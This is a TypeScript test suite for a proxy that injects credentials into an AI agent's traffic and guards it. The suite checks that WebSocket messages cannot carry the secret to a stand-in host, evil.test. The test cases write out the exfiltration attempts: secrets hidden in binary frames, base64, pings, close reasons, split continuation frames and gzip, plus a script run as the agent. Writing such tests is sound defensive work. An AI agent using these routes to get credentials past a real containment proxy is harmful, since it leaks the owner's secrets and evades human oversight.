// Attack: WebSocket messages as a way around the guard and scrubbing (issue 12, item 2). Before the
// fix, after the 101 the proxy relayed bytes both ways unread. Now every message is parsed: one
// carrying a value toward the upstream (text, binary, split across continuation frames with a ping
// in between, base64'd, in a ping) closes the connection with 1008 before any of it leaves, and the
// upstream's echo of the injected credential reaches the agent as [REDACTED:FAKE_KEY]. The
// upstream's echo records what it received after unmasking, so "zero bytes" is checked on what a
// real server would read, not on masked wire bytes.
import { describe, expect, test } from "bun:test";
import { randomBytes } from "node:crypto";
import { gunzipSync, gzipSync } from "node:zlib";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { asAgent, openToAgent } from "../support/attacker.ts";
import { type HttpConnection, type RawResponse, readResponse, readWsFrame, type WsMessage, wsFrame } from "../support/proxy-client.ts";
import { type Broker, brokerForFile } from "../support/upgrade-broker.ts";

let B: Broker;
const scratch = brokerForFile("av-wsframes-", (broker) => (B = broker));

async function openWs(host: string, path: string, extra: string[] = [], proxyAuth?: string): Promise<{ conn: HttpConnection; res: RawResponse }> {
  const conn = await B.tunnel(host, proxyAuth);
  const key = randomBytes(16).toString("base64");
  conn.socket.write(
    [
      `GET ${path} HTTP/1.1`,
      `Host: ${host}`,
      "Upgrade: websocket",
      "Connection: Upgrade",
      `Sec-WebSocket-Key: ${key}`,
      "Sec-WebSocket-Version: 13",
      "Authorization: Bearer placeholder",
      ...extra,
      "",
      "",
    ].join("\r\n"),
  );
  const res = await readResponse(conn.reader);
  B.outputs.push(res.text, JSON.stringify(res.headers));
  return { conn, res };
}

/** Reads frames until a close; returns the frames before it and the close code. */
async function untilClose(conn: HttpConnection): Promise<{ frames: WsMessage[]; code: number | null; reason: string }> {
  const frames: WsMessage[] = [];
  for (;;) {
    const frame = await readWsFrame(conn.reader);
    B.outputs.push(frame.payload.toString("latin1"));
    if (frame.opcode === 0x8) return { frames, code: frame.payload.length >= 2 ? frame.payload.readUInt16BE(0) : null, reason: frame.payload.subarray(2).toString() };
    frames.push(frame);
  }
}

function receivedOn(path: string): Buffer {
  return Buffer.concat(B.wsReceived.filter((r) => r.path === path).map((r) => r.payload));
}

function expectNothingOf(bytes: Buffer | string): void {
  const text = Buffer.isBuffer(bytes) ? bytes.toString("latin1") : bytes;
  expect(text).not.toContain(B.secret);
  expect(text).not.toContain(B.other);
  expect(text).not.toContain(Buffer.from(B.secret).toString("base64").slice(4, 24));
}

describe("the handshake is a request like any other", () => {
  test("the credential is injected, permessage-deflate is not offered upstream, a clean message echoes", async () => {
    const mark = B.upstream.wire.length;
    const { conn, res } = await openWs("api.fake.test", "/ws/clean", ["Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits"]);
    expect(res.status, res.text).toBe(101);
    expect(res.headers["sec-websocket-extensions"]).toBeUndefined();
    const wire = B.wireFor("api.fake.test", mark).toString("latin1");
    expect(wire).toContain(`Bearer ${B.secret}`);
    expect(wire.toLowerCase()).not.toContain("sec-websocket-extensions");
    conn.socket.write(wsFrame("hello", { mask: true }));
    expect((await readWsFrame(conn.reader)).payload.toString()).toBe("hello");
    conn.socket.write(wsFrame(Buffer.from([0x03, 0xe8]), { opcode: 0x8, mask: true }));
    expect((await readWsFrame(conn.reader)).opcode).toBe(0x8);
  });

  test("a value in a handshake header to a guarded host: 403, zero bytes", async () => {
    const mark = B.upstream.wire.length;
    const { res } = await openWs("evil.test", "/ws/h", [`X-Note: ${B.secret}`]);
    expect(res.status).toBe(403);
    expect(res.json()).toMatchObject({ error: "credential_exfiltration", credential: "FAKE_KEY" });
    expect(B.wireFor("evil.test", mark).length).toBe(0);
  });

  test("a handshake with a body is refused before anything is sent", async () => {
    const conn = await B.tunnel("evil.test");
    const mark = B.upstream.wire.length;
    conn.socket.write(
      [
        "GET /ws/body HTTP/1.1",
        "Host: evil.test",
        "Upgrade: websocket",
        "Connection: Upgrade",
        `Sec-WebSocket-Key: ${randomBytes(16).toString("base64")}`,
        "Sec-WebSocket-Version: 13",
        `Content-Length: ${B.secret.length}`,
        "",
        B.secret,
      ].join("\r\n"),
    );
    const res = await readResponse(conn.reader);
    expect(res.status).toBe(400);
    await Bun.sleep(100);
    expect(B.wireFor("evil.test", mark).length).toBe(0);
  });

  test("an upstream that refuses the handshake: its echo of the credential is scrubbed", async () => {
    const { res } = await openWs("api.fake.test", "/ws-refuse");
    expect(res.status).toBe(401);
    expect(res.headers["x-echo"]).toBe("Bearer [REDACTED:FAKE_KEY]");
    expect(res.json()).toMatchObject({ you_sent: "Bearer [REDACTED:FAKE_KEY]" });
    expectNothingOf(res.text + JSON.stringify(res.headers));
  });

  test("an upstream that negotiates permessage-deflate anyway is refused: 502, no frame relayed", async () => {
    const { conn, res } = await openWs("api.fake.test", "/ws-deflate");
    expect(res.status).toBe(502);
    expect(res.json()).toMatchObject({ error: "upstream_error" });
    expectNothingOf(res.text + (await conn.reader.toEnd(5000).catch(() => Buffer.alloc(0))).toString("latin1"));
  });
});

describe("toward the upstream: a message carrying a value closes with 1008 before it leaves", () => {
  const cases: [string, string, (conn: HttpConnection) => void][] = [
    ["in a text frame, to a guarded non-service host", "evil.test", (c) => c.socket.write(wsFrame(`{"leak":"${B.secret}"}`, { mask: true }))],
    [
      "in a binary frame, to another service's host",
      "api.other.test",
      (c) => c.socket.write(wsFrame(Buffer.concat([randomBytes(7), Buffer.from(B.secret), randomBytes(5)]), { opcode: 0x2, mask: true })),
    ],
    ["base64'd in a text frame", "evil.test", (c) => c.socket.write(wsFrame(Buffer.from(`x:${B.secret}`).toString("base64"), { mask: true }))],
    ["in a ping's payload", "evil.test", (c) => c.socket.write(wsFrame(B.secret, { opcode: 0x9, mask: true }))],
    ["in a close frame's reason", "evil.test", (c) => c.socket.write(wsFrame(Buffer.concat([Buffer.from([0x03, 0xe8]), Buffer.from(B.secret)]), { opcode: 0x8, mask: true }))],
    ["the other service's value to the fake service (the agent never holds a real value)", "api.fake.test", (c) => c.socket.write(wsFrame(B.other, { mask: true }))],
    [
      "split across continuation frames with a ping in between",
      "evil.test",
      (c) => {
        const cut = 9;
        const first = wsFrame(`a=${B.secret.slice(0, cut)}`, { mask: true });
        first[0] = 0x01; // text, FIN clear
        const last = wsFrame(`${B.secret.slice(cut)}!`, { mask: true });
        last[0] = 0x80; // continuation, FIN set
        c.socket.write(first);
        c.socket.write(wsFrame("in between", { opcode: 0x9, mask: true }));
        setTimeout(() => c.socket.write(last), 150);
      },
    ],
  ];
  cases.forEach(([name, host, send], i) => {
    test(name, async () => {
      const path = `/ws/block-${i}`;
      const mark = B.upstream.wire.length;
      const { conn, res } = await openWs(host, path);
      expect(res.status, res.text).toBe(101);
      conn.socket.write(wsFrame("warm-up", { mask: true }));
      expect((await readWsFrame(conn.reader)).payload.toString()).toBe("warm-up");
      send(conn);
      const { code, reason, frames } = await untilClose(conn);
      expect(code).toBe(1008);
      expect(reason).toContain("credential_exfiltration");
      expect(await conn.reader.closesWithin(5000)).toBe(true);
      await Bun.sleep(100);
      // What the upstream read: the warm-up (and the clean ping), then our close; nothing of the value.
      const got = receivedOn(path);
      expectNothingOf(got);
      expect(got.toString("latin1")).not.toContain(B.secret.slice(0, 9));
      // After the handshake head (which carries the host's own injected credential, rightly).
      const wire = B.wireFor(host, mark);
      expectNothingOf(wire.subarray(wire.indexOf("\r\n\r\n") + 4));
      for (const f of frames) expectNothingOf(f.payload);
      const upstreamClose = B.wsReceived.filter((r) => r.path === path && r.opcode === 0x8);
      expect(upstreamClose.map((r) => r.payload.readUInt16BE(0))).toEqual([1008]);
    });
  });
});

describe("toward the agent: the upstream's echo of the injected credential is scrubbed", () => {
  test("in a text message (still valid UTF-8), a binary one, a split one around a ping, and a close reason", async () => {
    const { conn, res } = await openWs("api.fake.test", "/ws/leak");
    expect(res.status).toBe(101);
    conn.socket.write(wsFrame("leak-text", { mask: true }));
    const text = await readWsFrame(conn.reader);
    expect(text.opcode).toBe(0x1);
    expect(new TextDecoder("utf-8", { fatal: true }).decode(text.payload)).toBe('{"token":"[REDACTED:FAKE_KEY]","é":"ü"}');
    conn.socket.write(wsFrame("leak-binary", { mask: true }));
    const binary = await readWsFrame(conn.reader);
    expect(binary.opcode).toBe(0x2);
    expect(binary.payload.toString("latin1")).toContain("[REDACTED:FAKE_KEY]");
    conn.socket.write(wsFrame("leak-split", { mask: true }));
    const ping = await readWsFrame(conn.reader);
    expect(ping.opcode).toBe(0x9);
    const split = await readWsFrame(conn.reader);
    expect(split.payload.toString()).toBe("a=[REDACTED:FAKE_KEY];");
    conn.socket.write(wsFrame("leak-close", { mask: true }));
    const close = await readWsFrame(conn.reader);
    expect(close.opcode).toBe(0x8);
    expect(close.payload.readUInt16BE(0)).toBe(1000);
    expect(close.payload.subarray(2).toString()).toBe("[REDACTED:FAKE_KEY]");
    for (const f of [text, binary, ping, split, close]) expectNothingOf(f.payload);
  });
});

describe("frames a client must never send: closed with the RFC's code, nothing relayed", () => {
  const cases: [string, () => Buffer, number][] = [
    [
      "a reserved bit (permessage-deflate's RSV1 without the extension)",
      () => {
        const f = wsFrame(B.secret, { mask: true });
        f[0] = f[0]! | 0x40;
        return f;
      },
      1002,
    ],
    ["an unmasked frame", () => wsFrame(B.secret, { mask: false }), 1002],
    [
      "a 64-bit length past the 16 MiB cap",
      () => {
        const head = Buffer.alloc(14);
        head[0] = 0x82;
        head[1] = 0x80 | 127;
        head.writeBigUInt64BE(1n << 40n, 2);
        return Buffer.concat([head, Buffer.from(B.secret)]);
      },
      1009,
    ],
  ];
  cases.forEach(([name, frame, expected], i) => {
    test(`${name} → ${expected}`, async () => {
      const path = `/ws/bad-${i}`;
      const { conn, res } = await openWs("evil.test", path);
      expect(res.status).toBe(101);
      conn.socket.write(frame());
      const { code } = await untilClose(conn);
      expect(code).toBe(expected);
      await Bun.sleep(100);
      expectNothingOf(receivedOn(path));
    });
  });
});

test("revoking the session closes its open WebSocket (the relay ends both sides)", async () => {
  const held = await B.session();
  const { conn, res } = await openWs("api.fake.test", "/ws/revoke", [], held.proxyAuth);
  expect(res.status).toBe(101);
  conn.socket.write(wsFrame("before", { mask: true }));
  expect((await readWsFrame(conn.reader)).payload.toString()).toBe("before");
  const r = await B.cli(["vault", "session", "revoke", held.id]);
  expect(r.code, r.stderr).toBe(0);
  expect(await conn.reader.closesWithin(5000)).toBe(true);
});

// A real client: Bun's WebSocket (which offers permessage-deflate by default) through the proxy,
// run as the agent user, the way an agent's own code would open one.
const REAL_CLIENT = `
const [proxy, ca, secret] = process.argv.slice(2);
const open = (url) => new Promise((resolve) => {
  const ws = new WebSocket(url, { proxy, tls: { ca }, headers: { Authorization: "Bearer placeholder" } });
  const got = [];
  ws.onmessage = (e) => got.push(String(e.data));
  ws.onopen = () => resolve({ ws, got, opened: true });
  ws.onerror = () => resolve({ ws, got, opened: false });
});
const closed = (ws) => new Promise((resolve) => { ws.onclose = (e) => resolve({ code: e.code, reason: e.reason }); setTimeout(() => resolve({ code: -1 }), 8000); });
const out = {};
const a = await open("wss://api.fake.test/ws/real-echo");
a.ws.send("leak-text");
a.ws.send("plain hello");
await Bun.sleep(500);
out.echo = a.got;
a.ws.close(1000);
const b = await open("wss://evil.test/ws/real-leak");
out.evilOpened = b.opened;
const done = closed(b.ws);
b.ws.send("first " + secret);
out.evilClose = await done;
console.log(JSON.stringify(out));
process.exit(0);
`;

describe("compressed layers (found by red-teaming)", () => {
  test("a refused handshake's answer in undeclared gzip, or under Transfer-Encoding gzip, is scrubbed in every layer", async () => {
    for (const path of ["/ws-refuse-gzip", "/ws-refuse-te"]) {
      const { conn, res } = await openWs("api.fake.test", path);
      conn.close();
      expect(res.status).toBe(400);
      let body = res.body;
      try {
        body = gunzipSync(body);
      } catch {
        // passed on decoded
      }
      expectNothingOf(body);
      expect(body.toString()).toContain("[REDACTED:FAKE_KEY]");
    }
  });

  test("a gzip'd binary message carrying a value toward a guarded host closes with 1008; nothing of it leaves", async () => {
    const { conn, res } = await openWs("evil.test", "/ws/gz-out");
    expect(res.status).toBe(101);
    conn.socket.write(wsFrame(gzipSync(JSON.stringify({ leak: B.secret })), { opcode: 0x2, mask: true }));
    const { code } = await untilClose(conn);
    conn.close();
    expect(code).toBe(1008);
    const got = receivedOn("/ws/gz-out");
    expectNothingOf(got);
    expect(got.length === 0 || !gunzipSafe(got).includes(B.secret)).toBe(true);
  });

  test("a gzip-in-gzip binary message from the upstream holding the injected value is scrubbed, still gzip", async () => {
    const { conn, res } = await openWs("api.fake.test", "/ws/gz-in");
    expect(res.status).toBe(101);
    conn.socket.write(wsFrame("leak-gzip", { mask: true }));
    const frame = await readWsFrame(conn.reader);
    conn.close();
    const inner = gunzipSync(gunzipSync(frame.payload)).toString();
    expect(inner).toContain("[REDACTED:FAKE_KEY]");
    expectNothingOf(inner);
  });
});

function gunzipSafe(bytes: Buffer): string {
  try {
    return gunzipSync(bytes).toString("latin1");
  } catch {
    return "";
  }
}

test("a real client (Bun's WebSocket through the proxy, as the agent): echo scrubbed, a value to another host closed with 1008", async () => {
  const script = join(scratch, "real-client.mjs");
  writeFileSync(script, REAL_CLIENT);
  openToAgent(scratch);
  const proc = Bun.spawn(asAgent([process.execPath, script, `http://${B.token}:default@127.0.0.1:${B.server.mitmPort}`, B.trust[0]!, B.secret]), {
    stdout: "pipe",
    stderr: "pipe",
    env: { PATH: process.env.PATH ?? "/usr/bin:/bin" },
  });
  const [stdout, stderr] = await Promise.all([new Response(proc.stdout).text(), new Response(proc.stderr).text(), proc.exited]);
  B.outputs.push(stdout, stderr);
  const out = JSON.parse(stdout.trim().split("\n").pop() ?? "{}") as { echo: string[]; evilOpened: boolean; evilClose: { code: number; reason: string } };
  expect(out.echo, stderr).toEqual(['{"token":"[REDACTED:FAKE_KEY]","é":"ü"}', "plain hello"]);
  expect(out.evilOpened).toBe(true);
  expect(out.evilClose.code).toBe(1008);
  await Bun.sleep(100);
  expectNothingOf(receivedOn("/ws/real-leak"));
  expect(B.wsReceived.filter((r) => r.path === "/ws/real-leak" && r.opcode !== 0x8)).toEqual([]);
}, 30_000);

test("blocked messages are in the request log as blocked, with the key and never the value", async () => {
  await Bun.sleep(200);
  const lines = B.log()
    .split("\n")
    .filter((l) => l.includes('"blocked"') && l.includes("/ws/block-"));
  expect(lines.length).toBeGreaterThanOrEqual(7);
  for (const line of lines) expect(JSON.parse(line) as object).toMatchObject({ status: 403, error: "credential_exfiltration" });
  expectNothingOf(B.log());
  for (const out of B.outputs) expectNothingOf(out);
});
